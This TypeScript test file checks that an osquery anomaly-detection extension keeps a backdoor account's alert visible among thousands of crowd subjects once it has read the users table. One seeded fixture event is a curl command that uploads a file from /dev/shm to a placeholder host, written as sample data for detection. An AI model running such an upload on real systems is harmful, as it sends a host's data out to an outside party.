import * as fs from 'fs';
import * as path from 'path';
import t, { type Test } from 'tap';
import type { ScoredEvent, ScoredWindow } from '../scorer/types';
import { RetainedScores } from '../state/scores';
import { RetainedWindows } from '../state/windows';
import { emulated, processLine, until, type Emulated } from './helpers/emulated';
import { ROOT } from './helpers/paths';
import { plainRow } from './helpers/scored';

// The accounts tier of a bounded `bad` answer (foldacct) through the extension as osqueryd runs
// it: the extension reads `SELECT uid, username FROM users` from the emulated osqueryd, and
// that answer, not a table the test hands in, is what ranks a fresh account before a local
// user's crowd of `uid:N` subjects (revacct: the alert-fold tests give the table its accounts
// directly, so nothing checked that the lookup fills them).

t.setTimeout(3_600_000);

const alerts = JSON.parse(fs.readFileSync(path.join(ROOT, 'packs', 'anomaly-alerts.conf'), 'utf8')) as { queries: Record<string, { query: string }> };

/** more subjects than the 48 MB answer has room for, each row some 4 kB of the cells `bad` reads */
const CROWD = 16_000;

/**
 * the state an extension restarts on: a crowd of a rootless user's subuids, each one bad row
 * scored 0 by the host's baseline, and `sysupd`, root's backdoor made an hour ago, still
 * learning: one bad row at 0.12, also the baseline's, and no history. By standing (none either)
 * and score the crowd comes first; only the users table tells them apart
 */
function seed(e: Emulated, now: number): void {
  const store = new RetainedScores({ dir: path.join(e.stateDir, 'scores'), maxRows: 1_000_000, maxDays: 30 });
  const crowd = (k: number): ScoredEvent =>
    plainRow(k, {
      id: `crowd-${k}`,
      time: now - 7200 + (k % 3600),
      subject: `uid:${100_000 + k}`,
      query: 'pack_user-behavior_file_events',
      event: `write /home/<user>/.local/share/containers/storage/overlay/${'a'.repeat(2000)}`,
      score: 0,
      verdict: 'bad',
      model: 'host:rarity',
      reasons: `new account: \`uid:${100_000 + k}\` never acted on this host before ${'r'.repeat(2000)} (host:rarity)`,
    });
  // a quarter of the crowd's rows short: once the long ones no longer fit, these take the room
  // left, which the account's short row would otherwise have had (as in alert-fold)
  const short = (k: number): ScoredEvent => ({ ...crowd(k), event: 'write /home/<user>/.local/share/containers/<*>', reasons: 'new account (host:rarity)' });
  for (let i = 0; i < CROWD; i += 1_000) {
    const batch = Array.from({ length: Math.min(1_000, CROWD - i) }, (_, k) => ((i + k) % 4 === 3 ? short(i + k) : crowd(i + k)));
    if (i === CROWD / 2)
      batch.push(
        plainRow(CROWD, {
          id: 'sysupd-bad',
          time: now - 3600,
          subject: 'sysupd',
          event: 'shell curl -s -T /dev/shm/<tmp> https://<*>/u',
          score: 0.12,
          verdict: 'bad',
          model: 'host:rarity',
          reasons: 'new kind of behaviour: argloc `temp-hidden` never seen before on this host (host:rarity; learning: 4 of 1,000 events)',
        }),
      );
    store.append(batch);
  }
  store.close();
  // and the same in anomaly_windows: the crowd's windows at 0, the account's one at 0.12,
  // all the host's window baseline's (bad_windows reads reasons and top_ids, 2 kB each here)
  const windows = new RetainedWindows({ dir: path.join(e.stateDir, 'window-scores'), maxRows: 1_000_000, maxDays: 30 });
  const window = (subject: string, k: number, score: number, long: boolean): ScoredWindow => ({
    subject,
    host: 'h',
    start: now - 7200 + (k % 3600),
    end: now - 6600 + (k % 3600),
    events: 9,
    score,
    verdict: 'bad',
    model: 'host:mix',
    reasons: long ? `a mix of events this host's subjects never had ${'r'.repeat(2000)} (host:mix)` : 'a mix never seen (host:mix)',
    top_ids: JSON.stringify(long ? Array.from({ length: 90 }, (_, j) => `crowd-${k}-${j}`) : [`crowd-${k}`]),
  });
  for (let i = 0; i < CROWD; i += 1_000) {
    // two windows a subject (an hour apart): the crowd's one each fits in bad_windows' 48 MB
    const batch = Array.from({ length: Math.min(1_000, CROWD - i) }, (_, k) => window(`uid:${100_000 + i + k}`, i + k, 0, (i + k) % 4 !== 3));
    batch.push(...batch.map((w) => ({ ...w, start: w.start + 3600, end: w.end + 3600 })));
    if (i === CROWD / 2) batch.push(window('sysupd', 0, 0.12, false));
    windows.append(batch);
  }
  windows.close();
}

/**
 * the `bad` answer of an extension restarted on that state under an osqueryd whose users
 * table lists `users`, asked once the extension has read the table: a row of bob's (uid 1002,
 * listed in both) logged after the start is scored under his name only once the lookup answered
 */
async function badAfterLookup(t: Test, users: Array<{ uid: string; username: string }>): Promise<Record<'rows' | 'windows', Array<Record<string, string>>>> {
  const now = Math.floor(Date.now() / 1000);
  const e = await emulated({ users, config: { learning: { min_events: 100000, min_days: 0 } } });
  t.teardown(() => e.close());
  seed(e, now);
  await e.launch();
  await e.emu.logResult('anomaly', processLine(1, '1002'));
  const [probe] = await until(
    () => e.emu.query("SELECT subject FROM anomaly_scores WHERE query = 'pack_user-behavior_process_events'"),
    (r) => r.length > 0,
  );
  t.equal(probe.subject, 'bob', 'the extension read the users table (uid 1002 is named bob)');
  return { rows: await e.emu.query(alerts.queries.bad.query), windows: await e.emu.query(alerts.queries.bad_windows.query) };
}

const HOST_USERS = [
  { uid: '0', username: 'root' },
  { uid: '1002', username: 'bob' },
  { uid: '1003', username: 'mallory' },
];

t.test(
  "a learning account the users table lists keeps its bad row and window in the alert answers among a crowd of uid subjects, read through osqueryd's users table (revacct)",
  async (t) => {
    const { rows, windows } = await badAfterLookup(t, [...HOST_USERS, { uid: '1005', username: 'sysupd' }]);
    const folded = rows.find((r) => r.subject === '*');
    t.ok(folded, `the answer has no room for every subject: the crowd's last are folded (${folded?.event})`);
    t.ok(
      rows.some((r) => r.id === 'sysupd-bad'),
      "the backdoor's row is a row of the answer",
    );
    const foldedWindows = windows.find((r) => r.subject === '*');
    t.ok(foldedWindows, `bad_windows has no room for every subject either (${windows.length - 1} windows and summaries shown)`);
    t.ok(
      windows.some((r) => r.subject === 'sysupd' && r.model === 'host:mix'),
      "the backdoor's window is a row of bad_windows",
    );
  },
);

t.test('the same state under a users table that does not list the account folds its row and window with the crowd (revacct)', async (t) => {
  // what makes the difference in the test above is the table osqueryd answered
  const { rows, windows } = await badAfterLookup(t, HOST_USERS);
  t.ok(
    rows.some((r) => r.subject === '*'),
    'the crowd is folded',
  );
  t.notOk(
    rows.some((r) => r.id === 'sysupd-bad'),
    `and the unlisted account with it (${rows.filter((r) => r.model !== 'held-back').length} rows shown; ${rows.find((r) => r.subject === '*')?.event})`,
  );
  t.notOk(
    windows.some((r) => r.subject === 'sysupd' && r.model === 'host:mix'),
    `and its window (${windows.filter((r) => r.model !== 'held-back').length} windows shown)`,
  );
});

t.test("until osqueryd answers the extension's first users lookup the tier is empty; the next bad run after it answers the account (revacct)", async (t) => {
  // a restart under a busy osqueryd: the tables answer once the retained scores are read, the
  // accounts only once the lookup is answered. The bad query looks back a day, so this delays
  // the alert by a run, it does not lose it (docs/hardening.md, revacct)
  const now = Math.floor(Date.now() / 1000);
  const e = await emulated({ users: [...HOST_USERS, { uid: '1005', username: 'sysupd' }], config: { learning: { min_events: 100000, min_days: 0 } } });
  t.teardown(() => e.close());
  seed(e, now);
  let reach!: () => void;
  let open!: () => void;
  const reached = new Promise<void>((r) => (reach = r));
  const opened = new Promise<void>((r) => (open = r));
  e.emu.beforeQueryAnswer = async (sql) => {
    if (!/FROM users/i.test(sql)) return;
    reach();
    await opened;
  };
  await e.launch();
  await reached;
  const before = await e.emu.query(alerts.queries.bad.query);
  t.notOk(
    before.some((r) => r.id === 'sysupd-bad'),
    'while the lookup is held, the account ranks with the crowd and is folded',
  );
  open();
  e.emu.beforeQueryAnswer = null;
  await e.emu.logResult('anomaly', processLine(1, '1002'));
  await until(
    () => e.emu.query("SELECT subject FROM anomaly_scores WHERE query = 'pack_user-behavior_process_events' AND subject = 'bob'"),
    (r) => r.length > 0,
  );
  const after = await e.emu.query(alerts.queries.bad.query);
  t.ok(
    after.some((r) => r.id === 'sysupd-bad'),
    'once it is answered, the next bad run answers it',
  );
});
